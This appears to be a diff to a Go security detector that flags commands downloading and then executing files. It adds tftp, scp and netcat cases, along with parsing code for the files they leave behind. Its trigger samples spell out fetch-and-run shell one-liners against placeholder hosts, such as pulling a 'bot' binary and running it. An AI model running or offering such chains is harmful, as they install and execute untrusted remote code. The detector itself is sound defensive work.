@@ -17,7 +17,7 @@ var runFetch = Detector{
 	Detect: fetchRun,
 	Fire: append(lines(coi.Warning,
 		"curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && /tmp/a", "wget https://example.com/x.sh; bash x.sh", "curl -sO https://example.com/atomic.sh; chmod +x atomic.sh | bash atomic.sh",
-		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py",
+		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q",
 	), Sample{Level: coi.Warning, Events: []event.Event{
 		{Type: event.Exec, PID: 5, PPID: 1, Exe: "/usr/bin/bash", Argv: []string{"bash"}},
 		{Type: event.Exec, PID: 6, PPID: 5, Exe: "/usr/bin/curl", Argv: []string{"curl", "-o", "/tmp/z", "https://example.com/z"}},
@@ -52,7 +52,17 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 // fetchedFiles are the files a downloader leaves behind.
 func fetchedFiles(s *command.Simple) []string {
 	var out []string
+	if p := broughtFile(s); p != "" {
+		out = append(out, p)
+	}
 	for _, d := range append([]*command.Simple{s}, s.Stdin...) {
+		if d.Class() == program.Relay && outHost(d) != "" && d == s {
+			for _, r := range s.Redirs {
+				if r.FD == 1 && strings.HasPrefix(r.Op, ">") && strings.HasPrefix(r.Path, "/") && !strings.HasPrefix(r.Path, "/dev/") {
+					out = append(out, r.Path)
+				}
+			}
+		}
 		if d.Class() != program.Downloader {
 			continue
 		}
@@ -75,6 +85,29 @@ func fetchedFiles(s *command.Simple) []string {
 		}
 	}
 	return out
+}
+
+// broughtFile is the file that tftp or a remote copy leaves behind.
+func broughtFile(s *command.Simple) string {
+	p := s.Parsed()
+	switch s.Name {
+	case "tftp", "ftpget":
+		q := program.Parse(program.Spec{Short: "rlbtu"}, s.Argv, false)
+		if v := append(q.Values("l"), q.Values("r")...); len(v) > 0 {
+			return s.Abs(base(v[0]))
+		}
+	case "scp", "rsync":
+		n := len(p.Rest)
+		if n < 2 || !strings.Contains(p.Rest[n-2], ":") || strings.Contains(p.Rest[n-1], ":") {
+			return ""
+		}
+		to := p.Rest[n-1]
+		if to == "." || strings.HasSuffix(to, "/") {
+			to += "/" + base(p.Rest[n-2])
+		}
+		return s.Abs(to)
+	}
+	return ""
 }
 
 // ranFile is the file that a command runs: itself by path, or a script.
